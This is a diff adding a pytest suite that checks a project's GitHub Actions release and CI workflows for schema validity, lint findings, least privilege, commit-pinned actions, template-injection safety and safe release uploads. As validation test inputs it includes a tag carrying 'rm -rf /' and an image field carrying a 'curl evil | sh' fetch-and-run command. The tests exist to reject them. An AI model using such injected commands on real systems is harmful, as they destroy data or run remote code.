@@ -1,0 +1,459 @@
+"""The GitHub Actions workflows: real linters, the copies in sync, and the release policy.
+
+Run by scripts/test-workflows.sh, which installs the locked linters (requirements.txt) into a
+venv and puts them on PATH. Everything here is offline.
+
+- check-jsonschema with its vendored GitHub-workflow schema (SchemaStore), on every file;
+- zizmor --offline (pedantic persona): no findings; an ignore comment must give its reason;
+- workflows/ and .github/workflows/ hold the same files, byte for byte;
+- the release policy of issue 6 (triggers, concurrency, job order, least privilege, actions
+  pinned by commit, the builder image from release.toml), partly by running the workflow's
+  own shell steps in a scratch git repository;
+- the GitHub Release step's shell (draft, upload by digest, never overwrite, publish) run
+  against fake_gh.py, a `gh api` stand-in keeping a repository's releases in a JSON file.
+"""
+
+from __future__ import annotations
+
+import difflib
+import hashlib
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+import tomllib
+from pathlib import Path
+
+import pytest
+from ruamel.yaml import YAML
+
+REPO = Path(__file__).resolve().parents[2]
+SRC = REPO / "workflows"
+COPY = REPO / ".github" / "workflows"
+RELEASE = SRC / "release-musa.yaml"
+CI = SRC / "ci.yaml"
+FILES = sorted(SRC.glob("*.y*ml"))
+
+PINNED_USES = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")
+VERSION_COMMENT = re.compile(r"#\s*v\d+(\.\d+)*\b")
+
+
+def tool(name: str) -> str:
+    path = shutil.which(name)
+    assert path, f"{name} is not on PATH: run scripts/test-workflows.sh"
+    return path
+
+
+def load(path: Path) -> dict:
+    return YAML(typ="safe").load(path.read_text())
+
+
+@pytest.fixture(scope="module")
+def release() -> dict:
+    return load(RELEASE)
+
+
+@pytest.fixture(scope="module")
+def ci() -> dict:
+    return load(CI)
+
+
+# --- the linters --------------------------------------------------------------------------
+
+
+def test_the_workflows_exist():
+    assert [f.name for f in FILES] == ["ci.yaml", "release-musa.yaml"]
+
+
+def test_schema():
+    """check-jsonschema, SchemaStore's github-workflow schema as vendored by the tool."""
+    r = subprocess.run(
+        [tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows",
+         *map(str, FILES + sorted(COPY.glob("*.y*ml")))],
+        capture_output=True, text=True,
+    )
+    assert r.returncode == 0, r.stdout + r.stderr
+
+
+def test_zizmor_has_no_findings():
+    """zizmor --offline with the pedantic persona (a superset of the default one).
+
+    zizmor exits 0 only without findings (10 + the highest severity otherwise); its
+    cargo-style report, with file and line of each finding, is the failure message.
+    """
+    r = subprocess.run(
+        [tool("zizmor"), "--offline", "--persona", "pedantic", "--format", "plain",
+         *map(str, FILES)],
+        capture_output=True, text=True,
+    )
+    assert r.returncode == 0, f"zizmor (exit {r.returncode}):\n{r.stdout}{r.stderr}"
+    assert "No findings to report" in r.stdout, r.stdout
+
+
+@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
+def test_every_zizmor_ignore_gives_its_reason(path: Path):
+    for n, line in enumerate(path.read_text().splitlines(), 1):
+        m = re.search(r"#\s*zizmor:\s*ignore\[[^\]]+\](.*)$", line)
+        if m:
+            assert len(m.group(1).strip()) >= 10, f"{path.name}:{n}: ignore without a reason"
+
+
+# --- the two copies -------------------------------------------------------------------------
+
+
+def test_github_copy_is_identical():
+    """.github/workflows/ is what GitHub runs; workflows/ is where we edit."""
+    src = {p.name for p in SRC.iterdir() if p.is_file()}
+    copy = {p.name for p in COPY.iterdir() if p.is_file()} if COPY.is_dir() else set()
+    problems = []
+    for name in sorted(src - copy):
+        problems.append(f".github/workflows/{name} is missing (cp workflows/{name} .github/workflows/)")
+    for name in sorted(copy - src):
+        problems.append(f".github/workflows/{name} has no source in workflows/")
+    for name in sorted(src & copy):
+        a, b = (SRC / name).read_text(), (COPY / name).read_text()
+        if a != b:
+            diff = "".join(difflib.unified_diff(
+                a.splitlines(True), b.splitlines(True),
+                f"workflows/{name}", f".github/workflows/{name}"))
+            problems.append(f"workflows/{name} and .github/workflows/{name} differ:\n{diff}")
+    assert not problems, "\n".join(problems)
+
+
+# --- the release policy ---------------------------------------------------------------------
+
+
+def jobs(wf: dict) -> dict:
+    return wf["jobs"]
+
+
+def all_steps(wf: dict):
+    for name, job in jobs(wf).items():
+        for step in job.get("steps", []):
+            yield name, step
+
+
+def test_triggers(release):
+    on = release["on"]
+    assert on["push"] == {"tags": ["v*"]}
+    tag = on["workflow_dispatch"]["inputs"]["tag"]
+    assert tag["required"] is True and tag["type"] == "string"
+    assert set(on) == {"push", "workflow_dispatch"}
+
+
+def test_pre_release_tags_are_skipped(release):
+    cond = jobs(release)["plan"]["if"]
+    assert "!contains(github.ref_name, '-')" in cond
+    assert "github.event_name == 'workflow_dispatch'" in cond
+    # Every other job depends on plan, so it is skipped with it.
+    for name, job in jobs(release).items():
+        if name != "plan":
+            needs = job["needs"] if isinstance(job["needs"], list) else [job["needs"]]
+            assert "plan" in needs, name
+
+
+def test_concurrency_per_tag_without_cancellation(release):
+    c = release["concurrency"]
+    assert c["cancel-in-progress"] is False
+    assert "inputs.tag" in c["group"] and "github.ref_name" in c["group"]
+
+
+def test_job_order(release):
+    j = jobs(release)
+
+    def needs(name):
+        n = j[name]["needs"]
+        return set(n if isinstance(n, list) else [n])
+
+    assert needs("build") == {"plan"}
+    assert "build" in needs("verify")
+    assert "verify" in needs("publish-pypi")
+    assert "publish-pypi" in needs("publish-github")
+    assert "publish-github" in needs("images")
+
+
+@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
+def test_least_privilege(path: Path):
+    wf = load(path)
+    assert wf["permissions"] == {}, "top-level permissions must be empty"
+    for name, job in jobs(wf).items():
+        assert "permissions" in job, f"{name}: declare the job's permissions"
+    writes = {
+        (name, perm)
+        for name, job in jobs(wf).items()
+        for perm, level in (job["permissions"] or {}).items()
+        if level == "write"
+    }
+    expected = {("publish-pypi", "id-token"), ("publish-github", "contents")}
+    assert writes == (expected if path == RELEASE else set())
+
+
+def test_pypi_job(release):
+    job = jobs(release)["publish-pypi"]
+    assert job["environment"]["name"] == "pypi"
+    assert job["permissions"] == {"id-token": "write"}
+    publish = [s for s in job["steps"] if "gh-action-pypi-publish" in s.get("uses", "")]
+    assert len(publish) == 1
+    inputs = publish[0].get("with", {})
+    # Trusted publishing: no password; never hide a different-bytes collision.
+    assert "password" not in inputs and "skip-existing" not in inputs
+
+
+def test_build_runs_in_the_builder_image_from_release_toml(release):
+    build = jobs(release)["build"]
+    assert build["container"]["image"] == "${{ needs.plan.outputs.builder_image }}"
+    runs = "\n".join(s.get("run", "") for s in build["steps"])
+    assert 'cargo xtask release "$TAG" --dry-run --strict-baseline' in runs
+    assert 'cargo xtask verify "target/dist/$TAG"' in runs
+
+
+def test_artifacts_travel_by_upload_and_download_and_are_verified(release):
+    j = jobs(release)
+    assert any("upload-artifact" in s.get("uses", "") for s in j["build"]["steps"])
+    for name in ("verify", "publish-pypi", "publish-github", "images"):
+        steps = j[name]["steps"]
+        assert any("download-artifact" in s.get("uses", "") for s in steps), name
+        runs = "\n".join(s.get("run", "") for s in steps)
+        assert "cargo xtask verify" in runs or "sha256sum -c" in runs, name
+
+
+@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
+def test_actions_are_pinned_by_commit_with_a_version_comment(path: Path):
+    text = path.read_text().splitlines()
+    for name, step in all_steps(load(path)):
+        uses = step.get("uses")
+        if uses is None or uses.startswith("./"):
+            continue
+        assert PINNED_USES.match(uses), f"{name}: {uses} is not pinned by a full commit SHA"
+        line = next(l for l in text if f"uses: {uses}" in l)
+        assert VERSION_COMMENT.search(line), f"{name}: {uses} lacks a '# vX.Y.Z' comment"
+
+
+@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
+def test_checkouts_keep_no_credentials(path: Path):
+    for name, step in all_steps(load(path)):
+        if "actions/checkout" in step.get("uses", ""):
+            assert step["with"]["persist-credentials"] is False, name
+
+
+@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
+def test_no_expressions_inside_shell(path: Path):
+    """Values reach `run:` through env, never by ${{ }} expansion (template injection)."""
+    for name, step in all_steps(load(path)):
+        assert "${{" not in step.get("run", ""), f"{name}: {step.get('name')}"
+
+
+def test_ci_runs_the_suite_on_push_and_pull_request(ci):
+    assert {"push", "pull_request"} <= set(ci["on"])
+    runs = [s.get("run") for _, s in all_steps(ci)]
+    assert ".ci/run" in runs
+    assert (REPO / ".ci" / "run").exists()
+
+
+# --- the workflow's own shell, run here ---------------------------------------------------
+
+
+def step_script(wf: dict, job: str, step_name: str) -> str:
+    for step in jobs(wf)[job]["steps"]:
+        if step.get("name") == step_name:
+            return step["run"]
+    raise AssertionError(f"{job}: no step {step_name!r}")
+
+
+def run_step(script: str, cwd: Path, env: dict) -> subprocess.CompletedProcess:
+    full = {"PATH": os.environ["PATH"], "HOME": str(cwd), **env}
+    return subprocess.run(["bash", "-c", script], cwd=cwd, env=full,
+                          capture_output=True, text=True)
+
+
+@pytest.mark.parametrize("tag,ok", [
+    ("v0.3.12", True), ("v0.3.12.post1", True), ("v1.0.0", True),
+    ("v1.0.0-rc1", False), ("v1.0.0rc1", False), ("1.0.0", False), ("v1.0", False),
+    ("v1.0.0; rm -rf /", False), ("v1.0.0.post", False),
+])
+def test_plan_validates_the_tag(release, tmp_path, tag, ok):
+    script = step_script(release, "plan", "Validate the tag")
+    r = run_step(script, tmp_path, {"TAG": tag})
+    assert (r.returncode == 0) == ok, r.stdout + r.stderr
+
+
+def git(cwd: Path, *args: str) -> str:
+    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True,
+                          text=True).stdout.strip()
+
+
+@pytest.fixture
+def tagged_repo(tmp_path: Path) -> Path:
+    """A scratch repository whose tag v9.9.9 holds this repository's release.toml."""
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    git(repo, "init", "-q")
+    shutil.copy(REPO / "release.toml", repo / "release.toml")
+    git(repo, "add", "release.toml")
+    git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "release")
+    git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "tag", "-a", "v9.9.9", "-m", "v9.9.9")
+    return repo
+
+
+def test_plan_reads_the_builder_image_from_release_toml(release, tagged_repo):
+    out = tagged_repo / "github_output"
+    script = step_script(release, "plan", "Read the plan from the tag's release.toml")
+    r = run_step(script, tagged_repo, {"TAG": "v9.9.9", "GITHUB_OUTPUT": str(out)})
+    assert r.returncode == 0, r.stdout + r.stderr
+    outputs = dict(line.split("=", 1) for line in out.read_text().splitlines())
+    wanted = tomllib.loads((REPO / "release.toml").read_text())["baseline"]["builder_image"]
+    assert outputs == {
+        "tag": "v9.9.9",
+        "version": "9.9.9",
+        "commit": git(tagged_repo, "rev-parse", "HEAD"),
+        "builder_image": wanted,
+    }
+    if "@sha256:" not in wanted:
+        assert "::warning::" in r.stdout
+
+
+def test_plan_refuses_a_checkout_that_is_not_the_tag(release, tagged_repo):
+    (tagged_repo / "x").write_text("x")
+    git(tagged_repo, "add", "x")
+    git(tagged_repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "later")
+    script = step_script(release, "plan", "Read the plan from the tag's release.toml")
+    r = run_step(script, tagged_repo, {"TAG": "v9.9.9",
+                                       "GITHUB_OUTPUT": str(tagged_repo / "out")})
+    assert r.returncode != 0 and "but v9.9.9 is" in r.stdout
+
+
+def test_plan_refuses_a_malformed_builder_image(release, tagged_repo):
+    toml = (tagged_repo / "release.toml").read_text()
+    toml = re.sub(r'builder_image = ".*"', 'builder_image = "img; curl evil | sh"', toml)
+    (tagged_repo / "release.toml").write_text(toml)
+    git(tagged_repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qam", "bad")
+    git(tagged_repo, "tag", "-f", "v9.9.9")
+    script = step_script(release, "plan", "Read the plan from the tag's release.toml")
+    r = run_step(script, tagged_repo, {"TAG": "v9.9.9",
+                                       "GITHUB_OUTPUT": str(tagged_repo / "out")})
+    assert r.returncode != 0 and "is not an image reference" in r.stdout
+
+
+# --- the GitHub Release step, against a `gh api` stand-in (fake_gh.py) ------------------------
+
+COMMIT = "c0ffee" + "0" * 34
+PUBLISH = ("publish-github", "Draft, upload (by digest), publish")
+
+
+@pytest.fixture
+def github(tmp_path: Path):
+    """A release directory, a `gh` on PATH that answers from a state file, and a runner."""
+    dist = tmp_path / "dist"
+    dist.mkdir()
+    for name, data in {
+        "mooncake_transfer_engine_musa-9.9.9-cp39-abi3-manylinux_2_35_x86_64.whl": b"wheel",
+        "mooncake_transfer_engine_musa-9.9.9.tar.gz": b"sdist",
+        "dist-manifest.json": b"{}",
+    }.items():
+        (dist / name).write_bytes(data)
+    sums = "".join(
+        f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {p.name}\n" for p in sorted(dist.iterdir()))
+    (dist / "sha256.sum").write_text(sums)
+    bindir = tmp_path / "bin"
+    bindir.mkdir()
+    gh = bindir / "gh"
+    gh.write_text(f"#!/bin/sh\nexec {sys.executable} {Path(__file__).parent / 'fake_gh.py'} \"$@\"\n")
+    gh.chmod(0o755)
+    state = tmp_path / "state.json"
+    state.write_text(json.dumps({
+        "tags": {"v9.9.9": {"type": "tag", "sha": "7a6"}},
+        "tag_objects": {"7a6": COMMIT},
+        "releases": [],
+    }))
+
+    class GitHub:
+        def __init__(self):
+            self.dist, self.state_file = dist, state
+
+        @property
+        def state(self) -> dict:
+            return json.loads(state.read_text())
+
+        def edit(self, change) -> None:
+            s = self.state
+            change(s)
+            state.write_text(json.dumps(s))
+
+        def run(self, release_wf: dict, commit: str = COMMIT) -> subprocess.CompletedProcess:
+            script = step_script(release_wf, *PUBLISH)
+            return run_step(script, dist, {
+                "TAG": "v9.9.9", "COMMIT": commit, "GH_REPO": "o/r", "FAKE_GH_STATE": str(state),
+                "PATH": f"{bindir}:{os.environ['PATH']}"})
+
+    return GitHub()
+
+
+def uploads(state: dict) -> list:
+    return [p for m, p in state["calls"] if m == "POST" and "uploads.github.com" in p]
+
+
+def test_github_first_publish_drafts_uploads_everything_then_publishes(release, github):
+    r = github.run(release)
+    assert r.returncode == 0, r.stdout + r.stderr
+    (rel,) = github.state["releases"]
+    assert rel["draft"] is False and rel["tag_name"] == "v9.9.9"
+    assert sorted(a["name"] for a in rel["assets"]) == sorted(p.name for p in github.dist.iterdir())
+    assert "sha256sum -c sha256.sum" in rel["body"]
+    for a in rel["assets"]:
+        assert a["digest"] == "sha256:" + hashlib.sha256((github.dist / a["name"]).read_bytes()).hexdigest()
+
+
+def test_github_rerun_uploads_nothing(release, github):
+    assert github.run(release).returncode == 0
+    before = len(uploads(github.state))
+    r = github.run(release)
+    assert r.returncode == 0, r.stdout + r.stderr
+    assert len(uploads(github.state)) == before
+    assert r.stdout.count("already there") == 4
+
+
+def test_github_finds_a_draft_and_completes_it(release, github):
+    def half_done(s):
+        s["releases"].append({"id": 7, "tag_name": "v9.9.9", "name": "v9.9.9", "draft": True,
+                              "assets": []})
+    github.edit(half_done)
+    wheel = next(github.dist.glob("*.whl"))
+    # One asset uploaded earlier without a digest recorded: compared by its bytes.
+    github.edit(lambda s: s["releases"][0]["assets"].append({
+        "id": 70, "name": wheel.name, "state": "uploaded", "digest": None,
+        "content": __import__("base64").b64encode(wheel.read_bytes()).decode()}))
+    r = github.run(release)
+    assert r.returncode == 0, r.stdout + r.stderr
+    (rel,) = github.state["releases"]
+    assert rel["id"] == 7 and rel["draft"] is False and len(rel["assets"]) == 4
+    assert len(uploads(github.state)) == 3
+
+
+def test_github_stops_on_a_different_asset_and_never_overwrites(release, github):
+    assert github.run(release).returncode == 0
+    wheel = next(github.dist.glob("*.whl"))
+    wheel.write_bytes(b"rebuilt, different bytes")
+    r = github.run(release)
+    assert r.returncode != 0
+    assert f"{wheel.name} on the release has sha256:" in r.stdout and "not overwriting" in r.stdout
+    assert [m for m, _ in github.state["calls"] if m == "DELETE"] == []
+
+
+def test_github_replaces_an_incomplete_upload(release, github):
+    def starter(s):
+        s["releases"].append({"id": 8, "tag_name": "v9.9.9", "name": "v9.9.9", "draft": True,
+                              "assets": [{"id": 80, "name": "sha256.sum", "state": "starter",
+                                          "digest": None, "content": ""}]})
+    github.edit(starter)
+    r = github.run(release)
+    assert r.returncode == 0, r.stdout + r.stderr
+    assert ["DELETE", "repos/o/r/releases/assets/80"] in github.state["calls"]
+    assert all(a["state"] == "uploaded" for a in github.state["releases"][0]["assets"])
+
+
+def test_github_refuses_a_tag_that_is_not_the_built_commit(release, github):
+    r = github.run(release, commit="f" * 40)
+    assert r.returncode != 0 and "but the release was built from" in r.stdout
+    assert github.state["releases"] == []
